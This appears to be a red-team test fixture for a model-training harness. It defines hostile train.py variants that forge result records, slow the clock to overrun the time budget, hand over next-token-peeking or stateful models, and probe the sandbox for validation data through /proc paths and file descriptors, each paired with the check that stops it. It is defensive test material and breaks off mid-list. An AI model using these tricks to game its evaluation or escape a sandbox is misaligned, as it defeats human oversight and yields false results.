/**
 * Hostile and careless train.py variants for the red-team suite (test/redteam.e2e.test.ts).
 *
 * Each one is a few edits of the honest train.py (see apply.ts), anchored on the harness API, so
 * they apply to whatever train.py is at test time. Hostile ones avoid the names a static rule
 * would match (aliases, strings built at run time): the sandbox, the supervisor and the evaluator
 * are the boundary, and the suite checks them, not the rules. A variant whose attack fails ends
 * the run itself with the errors it met ("redteam: every attempt to ... failed"), so a pass
 * proves each attempt was made and refused; one that gets through prints REDTEAM-BREACH and
 * carries on honestly, so the outcome (and the log check) fails the suite.
 *
 * One line per variant, what it tries and what stops it: test/redteam/README.md.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Edit, Variant } from './apply.js';

export const RT_PRELUDE = readFileSync(join(import.meta.dirname, 'prelude.py'), 'utf8');

/** Stable anchors of the honest train.py (docs/run-protocol.md, "prepare.py API"). */
const FINISH = 'finish_training(model)';
const LOOP = 'while used + margin < TIME_BUDGET:';
const LOADER = 'train_loader = make_dataloader(';
const MODEL = 'model = GPT().to(DEVICE)';
const NEXT_BATCH = 'x, y = next(train_loader)';
const ZERO_GRAD = 'model.zero_grad(set_to_none=True)';

const py = String.raw;

/** Outcomes for "stopped before it could score". */
const KILLED_BUDGET = ['over_budget'] as const;
const REFUSED_MODEL = ['crashed'] as const;
/** Careless edits the static rules may already refuse; otherwise the run must fail with the reason. */
const REFUSED_EARLY_OR_CRASHED = ['patch_refused', 'rejected', 'crashed'] as const;

const attemptsFailed = (what: string) => new RegExp(`every attempt to ${what} failed`);

/** A wrapper module around the trained model, handed over instead of it. */
function handOverWrapped(wrapper: string, construct: string): Edit[] {
  return [
    { kind: 'insertBefore', find: FINISH, text: wrapper },
    { kind: 'replaceLine', find: FINISH, text: `finish_training(${construct})` },
  ];
}

export const VARIANTS: Variant[] = [
  // ---------------------------------------------------------------- forged or rewritten records
  {
    id: '01',
    slug: 'record-forge-and-exit',
    class: 'record',
    careless: false,
    attempts: 'before training (so that the clock cannot end it first), writes a result record (val_bpb 0.1, nonce from the environment, hashes from manifest.json) everywhere it can and on the channel, prints a fake summary, exits without handing over',
    stoppedBy: 'no record is read from the run: only the evaluator, fed by the supervisor, yields val_bpb; the supervisor reports "exited" without a hand-over',
    prelude: true,
    edits: [
      {
        kind: 'insertBefore',
        find: LOADER,
        text: py`
          import json as _rt_json
          _rt_manifest = {}
          try:
              with open(_rt_os.path.join(_rt_os.environ.get(__RT_STR(AUTORESEARCH_DATA_DIR)__, _RT_SBX_DATA), "manifest.json")) as _rt_f:
                  _rt_manifest = _rt_json.load(_rt_f)
          except Exception as _rt_e:
              _RT_ERRORS.append(f"manifest: {_rt_e}")
          _rt_record = _rt_json.dumps({
              "schema": "autoresearch-result/1", "ok": True, "val_bpb": 0.1, "eval_tokens": 4096, "eval_bytes": 16384,
              "nonce": _rt_os.environ.get(__RT_STR(AUTORESEARCH_RUN_NONCE)__), "hashes": _rt_manifest.get("hashes"),
              "model_sha256": "0" * 64, "checks": {"graph": "ok", "weights": "ok", "stateless": "ok", "causal": "ok"},
          }).encode()
          for _rt_d in _rt_candidate_dirs():
              for _rt_name in ("result.json", "eval.json", "handover/result.json", "runs/1/result.json"):
                  _rt_p = _rt_os.path.join(_rt_d, _rt_name)
                  if not _rt_private(_rt_p):
                      _rt_attempt(f"create {_rt_p}", lambda _rt_p=_rt_p: _rt_create(_rt_p, _rt_record))
          _rt_reply = _rt_send(_rt_record.decode())
          if _rt_reply.startswith("ok"):
              _rt_breach("the channel accepted a result record")
          print("---\nval_bpb:          0.100000\ntraining_seconds: 3.0", flush=True)
          _rt_verdict("forge a result record")
          raise SystemExit(0)
        `,
      },
    ],
    expect: { status: ['crashed'], reasonMatches: attemptsFailed('forge a result record') },
    sideEffects: 'result.json / eval.json files outside the scratch',
  },
  {
    id: '02',
    slug: 'record-forge-into-state-runs',
    class: 'record',
    careless: false,
    attempts: "creates result.json and handover/{weights,model}.pt in <state>/runs/<k>/ for k = 1..80 (this run's and future runs') by absolute, __file__-relative, cwd-relative and mountinfo-derived paths",
    stoppedBy: 'the sandbox shows no state folder and no run folder; handover/ is written by the supervisor only',
    prelude: true,
    edits: [
      {
        kind: 'insertBefore',
        find: LOADER,
        text: py`
          _rt_runs = [_rt_os.path.join(_RT_STATE, "runs")] + [d for d in _rt_candidate_dirs() if d.rstrip("/").endswith("runs")]
          _rt_runs += [_rt_os.path.join(d, _RT_STATE_NAME, "runs") for d in _rt_candidate_dirs()]
          for _rt_r in _rt_runs:
              for _rt_k in range(1, 81):
                  for _rt_name in ("result.json", "handover/weights.pt", "handover/model.pt"):
                      _rt_p = _rt_os.path.join(_rt_r, str(_rt_k), _rt_name)
                      if not _rt_private(_rt_p) and _rt_os.path.isdir(_rt_os.path.dirname(_rt_p)):
                          _rt_attempt(f"create {_rt_p}", lambda _rt_p=_rt_p: _rt_create(_rt_p))
              _rt_attempt(f"list {_rt_r}", lambda _rt_r=_rt_r: _rt_os.listdir(_rt_r) and _rt_breach(f"sees {_rt_r}"))
          _RT_WINS[:] = [w for w in _RT_WINS if not w.startswith("list ")]
          _rt_verdict("write into the run records")
        `,
      },
    ],
    expect: { status: ['crashed'], reasonMatches: attemptsFailed('write into the run records') },
    sideEffects: 'files in other runs\' folders or in handover/',
  },
  {
    id: '03',
    slug: 'record-rewrite-after-handover',
    class: 'record',
    careless: false,
    attempts: 'hands over honestly, then (if still alive) rewrites records and handover files and prints val_bpb 0.05',
    stoppedBy: 'the supervisor kills the sandbox when the model arrives; the handover files are its own, outside the sandbox',
    prelude: true,
    edits: [
      {
        kind: 'insertAfter',
        find: FINISH,
        text: py`
          import time as _rt_time
          _rt_time.sleep(0.5)
          for _rt_d in _rt_candidate_dirs():
              for _rt_name in ("result.json", "handover/model.pt", "handover/weights.pt"):
                  _rt_p = _rt_os.path.join(_rt_d, _rt_name)
                  if not _rt_private(_rt_p) and _rt_os.path.exists(_rt_p):
                      _rt_attempt(f"append {_rt_p}", lambda _rt_p=_rt_p: _rt_append(_rt_p))
          print("---\nval_bpb:          0.050000", flush=True)
        `,
      },
    ],
    expect: { status: ['succeeded'], honest: true },
  },
  {
    id: '04',
    slug: 'record-forged-summary-lines',
    class: 'record',
    careless: false,
    attempts: 'prints the old summary block (val_bpb 0.05, training_seconds 0.5) and fake progress before an honest hand-over',
    stoppedBy: 'val_bpb comes from the evaluator and training_seconds from the supervisor; printed output is only a log',
    edits: [
      {
        kind: 'insertBefore',
        find: FINISH,
        text: py`
          print("step 99999 (100.0%) | loss: 0.010000 | lr: 0.000x | dt: 1ms | tok/s: 1", flush=True)
          print("---\nval_bpb:          0.050000\ntraining_seconds: 0.5\ntotal_seconds:    1.0\nnum_steps:        99999", flush=True)
        `,
      },
    ],
    expect: { status: ['succeeded'], honest: true },
  },

  // ---------------------------------------------------------------- patched evaluation code through aliases
  {
    id: '05',
    slug: 'evalpatch-own-finish-training',
    class: 'eval-patch',
    careless: false,
    attempts: 'replaces finish_training by its own channel requests: hands over every tensor of a wrapper whose extra unigram bias is still zero (a no-op), then a TorchScript of the wrapper with the bias learned',
    stoppedBy: "evaluator's weights check: the program's parameters and buffers must equal handover/weights.pt exactly",
    prelude: true,
    edits: [
      {
        kind: 'replaceLine',
        find: FINISH,
        text: py`
          class _RTBias(nn.Module):
              def __init__(self, inner):
                  super().__init__()
                  self.inner = inner
                  self.bias = nn.Parameter(torch.zeros(VOCAB_SIZE))

              def forward(self, idx):
                  return self.inner(idx) + self.bias

          _rt_cheat = _RTBias(model).float().eval()
          _rt_x, _rt_y = next(train_loader)
          _rt_named = dict(_rt_cheat.named_parameters())
          _rt_named.update(_rt_cheat.named_buffers())
          _rt_weights = _rt_bytes_of(torch.save, {k: v.detach().clone().cpu() for k, v in _rt_named.items()})
          _rt_r1 = _rt_send(f"handover {len(_rt_weights)}", _rt_weights)
          with torch.no_grad():
              _rt_counts = torch.bincount(_rt_y.flatten().cpu(), minlength=VOCAB_SIZE).float() + 1.0
              _rt_cheat.bias.copy_((_rt_counts / _rt_counts.sum()).log().to(_rt_cheat.bias.device))
          _rt_traced = torch.jit.trace(_rt_cheat, torch.zeros(EVAL_BATCH, MAX_SEQ_LEN, dtype=torch.long, device=DEVICE))
          _rt_program = _rt_bytes_of(torch.jit.save, _rt_traced)
          _rt_r2 = _rt_send(f"model {len(_rt_program)}", _rt_program)
          print("redteam: sent a program whose weights are not the handed-over ones:", _rt_r1, _rt_r2, flush=True)
          finish_training(model)   # not reached once the supervisor has the model: only there for the static check
        `,
      },
    ],
    expect: { status: [...REFUSED_MODEL], reasonMatches: /weights_mismatch\): the exported model's 'bias' differs from the weights handed over/ },
  },
  {
    id: '06',
    slug: 'evalpatch-budget-used-slowed',
    class: 'eval-patch',
    careless: false,
    attempts: "replaces budget_used (its own name and prepare's, through torch.sys.modules) by a clock running at a third of the speed: three times the training",
    stoppedBy: "the supervisor's clock: training past TIME_BUDGET + slack is killed as over_budget",
    edits: [
      {
        kind: 'insertBefore',
        find: LOOP,
        text: py`
          _rt_real_budget_used = budget_used
          def budget_used():
              return _rt_real_budget_used() / 3.0
          setattr(torch.sys.modules[__RT_STR(prepare)__], "budget_used", budget_used)
        `,
      },
    ],
    expect: { status: [...KILLED_BUDGET], reasonMatches: /budget|allowance|training/i },
  },
  {
    id: '07',
    slug: 'evalpatch-prepare-time-budget',
    class: 'eval-patch',
    careless: false,
    attempts: "triples every module global of prepare equal to TIME_BUDGET (reached as torch.sys.modules['prepare']) and its own TIME_BUDGET",
    stoppedBy: "the budget lives in the supervisor's spec, not in the trainer: over_budget",
    edits: [
      {
        kind: 'insertBefore',
        find: LOOP,
        text: py`
          _rt_prep = torch.sys.modules[__RT_STR(prepare)__]
          for _rt_k, _rt_v in list(vars(_rt_prep).items()):
              if isinstance(_rt_v, (int, float)) and not isinstance(_rt_v, bool) and _rt_v == TIME_BUDGET:
                  setattr(_rt_prep, _rt_k, _rt_v * 3)
          TIME_BUDGET = TIME_BUDGET * 3
        `,
      },
    ],
    expect: { status: [...KILLED_BUDGET], reasonMatches: /budget|allowance|training/i },
  },
  {
    id: '08',
    slug: 'evalpatch-time-functions-slowed',
    class: 'eval-patch',
    careless: false,
    attempts: 'before anything is imported, makes time.time, time.monotonic and time.perf_counter run at a third of the speed',
    stoppedBy: "the clock is the supervisor's; whatever prepare does locally, more training than the budget is over_budget",
    edits: [
      {
        kind: 'prepend',
        text: py`
          import time as _rt_time
          def _rt_slow(fn):
              start = fn()
              return lambda: start + (fn() - start) / 3.0
          _rt_time.time = _rt_slow(_rt_time.time)
          _rt_time.monotonic = _rt_slow(_rt_time.monotonic)
          _rt_time.perf_counter = _rt_slow(_rt_time.perf_counter)
        `,
      },
    ],
    expect: { status: ['succeeded', 'over_budget'], honest: true, reasonMatches: /budget|allowance|training/i },
  },
  {
    id: '09',
    slug: 'evalpatch-jit-trace-swapped',
    class: 'eval-patch',
    careless: false,
    attempts: "patches torch.jit.trace so that prepare's export traces a forward that adds the next token's one-hot to the logits (same parameter names)",
    stoppedBy: "evaluator's causality probe on rows and cut points drawn at evaluation time",
    edits: [
      {
        kind: 'prepend',
        text: py`
          import torch as _rt_torch
          import torch.nn.functional as _rt_F
          _rt_real_trace = _rt_torch.jit.trace
          def _rt_trace(mod, example, *args, **kwargs):
              cls = type(mod)
              orig = cls.forward
              def peek(self, idx, *rest, **kw):
                  logits = orig(self, idx)
                  return logits + 6.0 * _rt_F.one_hot(_rt_torch.roll(idx, -1, 1), logits.size(-1)).to(logits.dtype)
              cls.forward = peek
              try:
                  return _rt_real_trace(mod, example, *args, **kwargs)
              finally:
                  cls.forward = orig
          _rt_torch.jit.trace = _rt_trace
        `,
      },
    ],
    expect: { status: [...REFUSED_MODEL], reasonMatches: /causal/i },
  },
  {
    id: '10',
    slug: 'evalpatch-channel-forged-requests',
    class: 'eval-patch',
    careless: false,
    attempts: 'speaks the channel itself before training: batches over max_batch_tokens, negative batches, rows longer than MAX_SEQ_LEN, a "val" batch, junk and a 10 kB line',
    stoppedBy: 'the supervisor answers err to anything outside the protocol and never serves validation rows',
    prelude: true,
    edits: [
      {
        kind: 'insertBefore',
        find: LOADER,
        text: py`
          # 1000000 x 65 tokens is over any max_batch_tokens; a batch within it is a training batch like any other
          for _rt_req in ("batch 1000000 64", "batch 1 100000", "batch -1 64", "batch 1 64 val", "batch 1 64 ../" + _RT_VAL,
                          "batch 0 0", "clock clock", "GET / HTTP/1.0", "x" * 10000):
              _rt_reply = _rt_send(_rt_req)
              if _rt_reply.startswith("ok"):
                  _rt_breach(f"the supervisor served {_rt_req[:40]!r}: {_rt_reply}")
                  _rt_parts = _rt_reply.split()
                  if len(_rt_parts) > 1 and _rt_parts[1].isdigit():
                      _rt_read_exact(int(_rt_parts[1]))
          print("redteam: the supervisor refused every forged request", flush=True)
        `,
      },
    ],
    expect: { status: ['succeeded', 'crashed'], honest: true, reasonMatches: /err|request|channel|protocol/i },
  },

  // ---------------------------------------------------------------- non-causal models
  {
    id: '11',
    slug: 'noncausal-second-half-peek',
    class: 'non-causal',
    careless: false,
    attempts: 'hands over a wrapper that adds the next token only at positions >= T/2 (the old probe compared the first half only)',
    stoppedBy: 'causality probe with cut points anywhere in the row, drawn at evaluation time',
    edits: handOverWrapped(
      py`
        class _RTHalfPeek(nn.Module):
            def __init__(self, inner):
                super().__init__()
                self.inner = inner

            def forward(self, idx):
                logits = self.inner(idx)
                T = idx.size(1)
                h = T // 2
                nxt = F.one_hot(idx[:, h + 1:], VOCAB_SIZE).to(logits.dtype)
                bonus = torch.cat([torch.zeros_like(logits[:, :h]), 8.0 * nxt, torch.zeros_like(logits[:, :1])], dim=1)
                return logits + bonus
      `,
      '_RTHalfPeek(model)',
    ),
    expect: { status: [...REFUSED_MODEL], reasonMatches: /causal/i },
  },
  {
    id: '12',
    slug: 'noncausal-causal-first-three-calls',
    class: 'non-causal',
    careless: false,
    attempts: 'a call counter in a buffer: causal for the first three calls (the probe), then peeks at the next token',
    stoppedBy: 'graph check (in-place op on a buffer), statelessness check, weights check (the counter moved during tracing)',
    edits: handOverWrapped(
      py`
        class _RTLate(nn.Module):
            def __init__(self, inner):
                super().__init__()
                self.inner = inner
                self.register_buffer("calls", torch.zeros(()))

            def forward(self, idx):
                self.calls.add_(1.0)
                logits = self.inner(idx)
                gate = (self.calls > 3).to(logits.dtype)
                return logits + 8.0 * gate * F.one_hot(torch.roll(idx, -1, 1), VOCAB_SIZE).to(logits.dtype)
      `,
      '_RTLate(model)',
    ),
    expect: { status: [...REFUSED_MODEL], reasonMatches: /stateful|state|graph|in-place|inplace|buffer|weight|causal/i },
  },
  {
    id: '13',
    slug: 'noncausal-jitter-whole-row',
    class: 'non-causal',
    careless: false,
    attempts: "jitter from a hash of the whole row on one token's logit (to inflate a probe's noise tolerance) plus a weak next-token peek",
    stoppedBy: 'the probe compares prefix logits exactly (no tolerance learned from the model), so row-dependent jitter is itself non-causal',
    edits: handOverWrapped(
      py`
        class _RTJitter(nn.Module):
            def __init__(self, inner):
                super().__init__()
                self.inner = inner

            def forward(self, idx):
                logits = self.inner(idx)
                row = idx.to(logits.dtype).sum(1, keepdim=True)
                jitter = torch.sin(row * 12.9898).unsqueeze(-1) * 0.01
                lone = F.one_hot(torch.full_like(idx[:, :1], VOCAB_SIZE - 1), VOCAB_SIZE).to(logits.dtype)
                peek = 0.5 * F.one_hot(torch.roll(idx, -1, 1), VOCAB_SIZE).to(logits.dtype)
                return logits + jitter * lone + peek
      `,
      '_RTJitter(model)',
    ),
    expect: { status: [...REFUSED_MODEL], reasonMatches: /causal/i },
  },
  {
    id: '14',
    slug: 'noncausal-constant-table',
    class: 'non-causal',
    careless: false,
    attempts: 'counts bigrams of the training batches and adds the table (VOCAB_SIZE^2 floats) to the logits as a traced constant, outside the weights',
    stoppedBy: 'graph check: tensor constants over 4096 elements are refused (a memorised table must be a weight, and weights are pinned)',
    edits: [
      { kind: 'insertBefore', find: LOOP, text: py`_rt_bigrams = torch.ones(VOCAB_SIZE, VOCAB_SIZE)` },
      {
        kind: 'insertAfter',
        find: NEXT_BATCH,
        text: py`_rt_bigrams.index_put_((x.flatten().cpu(), y.flatten().cpu()), torch.ones(x.numel()), accumulate=True)`,
      },
      ...handOverWrapped(
        py`
          class _RTTable(nn.Module):
              def __init__(self, inner, table):
                  super().__init__()
                  self.inner = inner
                  self.table = table

              def forward(self, idx):
                  return self.inner(idx) + self.table[idx]
        `,
        '_RTTable(model, (_rt_bigrams / _rt_bigrams.sum(1, keepdim=True)).log().to(DEVICE))',
      ),
    ],
    expect: { status: [...REFUSED_MODEL], reasonMatches: /constant|graph|elements/i },
  },
  {
    id: '15',
    slug: 'noncausal-logits-buffer-alias',
    class: 'non-causal',
    careless: false,
    attempts: 'returns a buffer that forward writes into (copy_ then += next-token one-hot): earlier returned logits change under the caller',
    stoppedBy: 'graph check (in-place ops on buffers), statelessness and weights checks, causality probe',
    edits: handOverWrapped(
      py`
        class _RTAlias(nn.Module):
            def __init__(self, inner):
                super().__init__()
                self.inner = inner
                self.register_buffer("out", torch.zeros(EVAL_BATCH, MAX_SEQ_LEN, VOCAB_SIZE))

            def forward(self, idx):
                self.out.copy_(self.inner(idx))
                self.out[:, :-1].add_(4.0 * F.one_hot(idx[:, 1:], VOCAB_SIZE).to(self.out.dtype))
                return self.out
      `,
      '_RTAlias(model)',
    ),
    expect: { status: [...REFUSED_MODEL], reasonMatches: /graph|in-place|inplace|buffer|state|weight|causal/i },
  },
  {
    id: '16',
    slug: 'noncausal-bidirectional-attention',
    class: 'non-causal',
    careless: true,
    attempts: '"try bidirectional attention": is_causal=True becomes False and the window mask symmetric (|i - j| < window)',
    stoppedBy: 'causality probe',
    edits: [
      { kind: 'replace', find: 'is_causal=True', text: 'is_causal=False' },
      { kind: 'replace', find: '(j <= i) & (i - j < window)', text: '(i - j).abs() < window' },
    ],
    expect: { status: ['patch_refused', ...REFUSED_MODEL], reasonMatches: /causal/i },
  },
  {
    id: '17',
    slug: 'noncausal-shifted-input-embedding',
    class: 'non-causal',
    careless: true,
    attempts: '"bigram input feature": adds the embedding of torch.roll(idx, -1), i.e. the next token, to the input',
    stoppedBy: 'causality probe',
    edits: [
      {
        kind: 'replace',
        find: 'x = x0 = rms_norm(self.wte(idx))',
        text: 'x = x0 = rms_norm(self.wte(idx) + 0.5 * self.wte(torch.roll(idx, -1, dims=1)))  # bigram feature',
      },
    ],
    expect: { status: [...REFUSED_MODEL], reasonMatches: /causal/i },
  },

  // ---------------------------------------------------------------- stateful and random models
  {
    id: '18',
    slug: 'stateful-ema-buffer',
    class: 'stateful',
    careless: false,
    attempts: 'forward updates a running-mean buffer in place and adds it to the logits',
    stoppedBy: 'graph check (in-place op on a buffer) and the statelessness check (same input twice, another in between)',
    edits: handOverWrapped(
      py`
        class _RTEma(nn.Module):
            def __init__(self, inner):
                super().__init__()
                self.inner = inner
                self.register_buffer("ema", torch.zeros(()))

            def forward(self, idx):
                logits = self.inner(idx)
                self.ema.mul_(0.5).add_(0.5 * logits.detach().mean())
                return logits + self.ema
      `,
      '_RTEma(model)',
    ),
    expect: { status: [...REFUSED_MODEL], reasonMatches: /stateful|state|graph|in-place|inplace|buffer|weight/i },
  },
  {
    id: '19',
    slug: 'stateful-random-forward',
    class: 'stateful',
    careless: false,
    attempts: 'adds torch.randn_like noise to the logits at every call',
    stoppedBy: 'graph check (random ops) and the determinism check',
    edits: handOverWrapped(
      py`
        class _RTNoise(nn.Module):
            def __init__(self, inner):
                super().__init__()
                self.inner = inner

            def forward(self, idx):
                logits = self.inner(idx)
                return logits + 0.01 * torch.randn_like(logits)
      `,
      '_RTNoise(model)',
    ),
    expect: { status: [...REFUSED_MODEL], reasonMatches: /random|graph|determin|stateful|differ/i },
  },
  {
    id: '20',
    slug: 'stateful-python-counter',
    class: 'stateful',
    careless: false,
    attempts: 'a Python attribute counts calls and switches on a next-token peek after the third call',
    stoppedBy: 'the traced program keeps no Python: the branch is frozen as it was while tracing (causal), so it scores honestly; if the export called forward often enough to trace the peek, the probe refuses it',
    edits: handOverWrapped(
      py`
        class _RTPyCounter(nn.Module):
            def __init__(self, inner):
                super().__init__()
                self.inner = inner
                self.n = 0

            def forward(self, idx):
                self.n += 1
                logits = self.inner(idx)
                if self.n > 3:
                    logits = logits + 8.0 * F.one_hot(torch.roll(idx, -1, 1), VOCAB_SIZE).to(logits.dtype)
                return logits
      `,
      '_RTPyCounter(model)',
    ),
    expect: { status: ['succeeded', 'crashed'], honest: true, reasonMatches: /causal/i },
  },

  // ---------------------------------------------------------------- exported program != handed-over weights
  {
    id: '21',
    slug: 'weights-train-after-handover',
    class: 'weights',
    careless: false,
    attempts: "caches training batches, sends the hand-over itself, trains two more budgets on the cache during the export allowance, then sends the trace",
    stoppedBy: 'the clock stops at hand-over, so the weights are frozen there; the evaluator refuses a program whose weights differ from handover/weights.pt',
    prelude: true,
    edits: [
      { kind: 'insertBefore', find: LOOP, text: py`_rt_cache = []` },
      { kind: 'insertAfter', find: NEXT_BATCH, text: py`_rt_cache.append((x, y)) if len(_rt_cache) < 32 else None` },
      {
        kind: 'replaceLine',
        find: FINISH,
        text: py`
          import time as _rt_time
          model.float().eval()
          _rt_named = dict(model.named_parameters())
          _rt_named.update(model.named_buffers())
          _rt_weights = _rt_bytes_of(torch.save, {k: v.detach().clone().cpu() for k, v in _rt_named.items()})
          _rt_r1 = _rt_send(f"handover {len(_rt_weights)}", _rt_weights)
          model.train()
          _rt_opt = torch.optim.SGD(model.parameters(), lr=0.05)
          _rt_t0 = _rt_time.time()
          while _rt_time.time() - _rt_t0 < 2 * TIME_BUDGET:
              for _rt_x, _rt_y in _rt_cache:
                  _rt_opt.zero_grad(set_to_none=True)
                  model(_rt_x, _rt_y).backward()
                  _rt_opt.step()
          model.eval()
          _rt_traced = torch.jit.trace(model, torch.zeros(EVAL_BATCH, MAX_SEQ_LEN, dtype=torch.long, device=DEVICE))
          _rt_program = _rt_bytes_of(torch.jit.save, _rt_traced)
          _rt_r2 = _rt_send(f"model {len(_rt_program)}", _rt_program)
          print("redteam: trained after the hand-over:", _rt_r1, _rt_r2, flush=True)
          finish_training(model)   # not reached once the supervisor has the model: only there for the static check
        `,
      },
    ],
    expect: { status: [...REFUSED_MODEL], reasonMatches: /weights_mismatch\): the exported model's '[\w.]+' differs from the weights handed over/ },
  },
  {
    id: '22',
    slug: 'weights-state-dict-override',
    class: 'weights',
    careless: false,
    attempts: "overrides model.state_dict to return the initial weights, so the hand-over and the trace disagree",
    stoppedBy: 'weights check (or, if finish_training does not use state_dict(), nothing to stop: an honest score)',
    edits: [
      { kind: 'insertAfter', find: MODEL, text: py`_rt_initial = {k: v.detach().clone() for k, v in model.state_dict().items()}` },
      { kind: 'insertBefore', find: FINISH, text: py`model.state_dict = lambda *args, **kwargs: dict(_rt_initial)` },
    ],
    expect: { status: ['crashed', 'succeeded'], honest: true, reasonMatches: /weight|mismatch|parameter/i },
  },

  // ---------------------------------------------------------------- validation data by any route
  {
    id: '23',
    slug: 'val-open-by-name',
    class: 'val-data',
    careless: true,
    attempts: '"more data": reads data/val.bin by name before training',
    stoppedBy: 'static rules (plain validation path) or the sandbox (no val.bin in it)',
    edits: [
      {
        kind: 'insertBefore',
        find: LOADER,
        text: py`
          with open("data/val.bin", "rb") as f:   # more data: also use the validation split
              extra_tokens = f.read()
        `,
      },
    ],
    expect: { status: [...REFUSED_EARLY_OR_CRASHED], reasonMatches: /val|validation|No such file/i },
  },
  {
    id: '24',
    slug: 'val-more-data-env-dir',
    class: 'val-data',
    careless: true,
    attempts: "\"more data\": memmaps val.bin next to the data dir named by $AUTORESEARCH_DATA_DIR and concatenates it with train.bin",
    stoppedBy: 'static rules or the sandbox: only tokenizer.json, token_bytes.bin and manifest.json are in the data dir it sees',
    edits: [
      {
        kind: 'insertBefore',
        find: LOADER,
        text: py`
          import os
          import numpy as np
          data_dir = os.environ.get("AUTORESEARCH_DATA_DIR", "data")
          extra = np.concatenate([np.memmap(os.path.join(data_dir, name), dtype=np.uint16, mode="r")
                                  for name in ("train.bin", "val.bin")])   # train on everything we have
        `,
      },
    ],
    expect: { status: [...REFUSED_EARLY_OR_CRASHED], reasonMatches: /val|validation|No such file|AUTORESEARCH_|environment/i },
  },
  {
    id: '25',
    slug: 'val-guessed-paths',
    class: 'val-data',
    careless: false,
    attempts: 'reads val.bin / train.bin / state.db under every guessed directory (absolute from status, __file__- and cwd-relative, mountinfo-derived, /proc/1/root) and walks the whole visible file system for them',
    stoppedBy: 'the sandbox: neither file nor any host path to them exists inside',
    prelude: true,
    edits: [
      {
        kind: 'insertBefore',
        find: LOADER,
        text: py`
          import time as _rt_time
          def _rt_read(p):
              with open(p, "rb") as f:
                  if not f.read(64):
                      raise OSError(f"{p} is empty")
          for _rt_d in _rt_candidate_dirs():
              for _rt_n in (_RT_VAL, "data/" + _RT_VAL, _RT_TRAIN, "data/" + _RT_TRAIN, _RT_STATE_NAME + "/" + _RT_DB, _RT_DB):
                  _rt_p = _rt_os.path.join(_rt_d, _rt_n)
                  _rt_attempt(f"read {_rt_p}", lambda _rt_p=_rt_p: _rt_read(_rt_p))
          _rt_t0 = _rt_time.time()
          _rt_skip = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/lib32", "/bin", "/sbin", "/etc"}
          for _rt_root, _rt_dirs, _rt_files in _rt_os.walk("/"):
              _rt_dirs[:] = [d for d in _rt_dirs if _rt_os.path.join(_rt_root, d) not in _rt_skip]
              for _rt_f in _rt_files:
                  if _rt_f in (_RT_VAL, _RT_TRAIN, _RT_DB):
                      _rt_p = _rt_os.path.join(_rt_root, _rt_f)
                      _rt_attempt(f"read found {_rt_p}", lambda _rt_p=_rt_p: _rt_read(_rt_p))
              if _rt_time.time() - _rt_t0 > 5:
                  break
          _rt_verdict("read the token files")
        `,
      },
    ],
    expect: { status: ['crashed'], reasonMatches: attemptsFailed('read the token files') },
  },
  {
    id: '26',
    slug: 'val-proc-and-fds',
    class: 'val-data',
    careless: false,
    attempts: "val.bin next to every bind source named in mountinfo, directly and through /proc/<pid>/root and /proc/<pid>/cwd of every visible pid; every inherited or visible fd that points at a token file or the state",
    stoppedBy: "own pid namespace (only the run's processes are visible), no fds but the channel are passed, no host paths mounted",
    prelude: true,
    edits: [
      {
        kind: 'insertBefore',
        find: LOADER,
        text: py`
          def _rt_read(p):
              with open(p, "rb") as f:
                  if not f.read(64):
                      raise OSError(f"{p} is empty")
          _rt_paths = []
          for _rt_r in _rt_mount_roots() + [_RT_DATA]:
              _rt_paths += [_rt_os.path.join(_rt_os.path.dirname(_rt_r), _RT_VAL), _rt_os.path.join(_rt_r, _RT_VAL)]
          _rt_pids = [p for p in _rt_os.listdir("/proc") if p.isdigit()]
          for _rt_pid in _rt_pids:
              for _rt_p in list(_rt_paths[:24]):
                  _rt_paths.append(f"/proc/{_rt_pid}/root{_rt_p}")
              _rt_paths += [f"/proc/{_rt_pid}/cwd/{_RT_VAL}", f"/proc/{_rt_pid}/cwd/../../{_RT_VAL}"]
              try:
                  _rt_fds = _rt_os.listdir(f"/proc/{_rt_pid}/fd")
              except Exception as _rt_e:
                  _RT_ERRORS.append(f"fds of {_rt_pid}: {_rt_e}")
                  _rt_fds = []
              for _rt_fd in _rt_fds:
                  try:
                      _rt_link = _rt_os.readlink(f"/proc/{_rt_pid}/fd/{_rt_fd}")
                  except Exception:
                      continue
                  if any(n in _rt_link for n in (_RT_VAL, _RT_TRAIN, _RT_DB, ".git")):
                      _rt_paths.append(f"/proc/{_rt_pid}/fd/{_rt_fd}")
          for _rt_p in _rt_paths:
              _rt_attempt(f"read {_rt_p}", lambda _rt_p=_rt_p: _rt_read(_rt_p))
          _rt_verdict("reach the token files through /proc")
        `,
      },
    ],
    expect: { status: ['crashed'], reasonMatches: attemptsFailed('reach the token files through /proc') },
  },

  // ---------------------------------------------------------------- training past the budget
  {
    id: '27',
    slug: 'budget-times-2-5',
    class: 'budget',
    careless: true,
    attempts: '"the loss was still falling": the loop runs to TIME_BUDGET * 2.5',
    stoppedBy: "the supervisor's clock: over_budget with the measured time",
    edits: [{ kind: 'replaceLine', find: LOOP, text: 'while used + margin < TIME_BUDGET * 2.5:  # the loss was still falling' }],
    expect: { status: [...KILLED_BUDGET], reasonMatches: /budget|allowance|training/i },
  },
  {
    id: '28',
    slug: 'budget-untimed-warmup',
    class: 'budget',
    careless: true,
    attempts: '"warm-up steps are not training time": one budget of warm-up steps, then the full loop measured from after them',
    stoppedBy: 'the clock starts at the first batch, whatever train.py subtracts: over_budget',
    edits: [
      {
        kind: 'insertBefore',
        find: LOOP,
        text: py`
          UNTIMED_WARMUP_S = TIME_BUDGET   # warm-up steps are not counted as training time (like the compile steps)
          warmup_start = time.time()
          while time.time() - warmup_start < UNTIMED_WARMUP_S:
              x, y = next(train_loader)
              train_model(x, y).backward()
              for opt in optimizers:
                  opt.step()
              model.zero_grad(set_to_none=True)
          untimed = budget_used()
        `,
      },
      { kind: 'replaceLine', find: LOOP, text: 'while used - untimed + margin < TIME_BUDGET:' },
    ],
    expect: { status: [...KILLED_BUDGET], reasonMatches: /budget|allowance|training/i },
  },
  {
    id: '29',
    slug: 'budget-own-wall-clock',
    class: 'budget',
    careless: false,
    attempts: 'ignores budget_used and trains 2.5 budgets by its own wall clock',
    stoppedBy: "the supervisor's clock: over_budget",
    edits: [
      { kind: 'insertBefore', find: LOOP, text: '_rt_start = time.time()' },
      { kind: 'replaceLine', find: LOOP, text: 'while time.time() - _rt_start < 2.5 * TIME_BUDGET:' },
    ],
    expect: { status: [...KILLED_BUDGET], reasonMatches: /budget|allowance|training/i },
  },
  {
    id: '30',
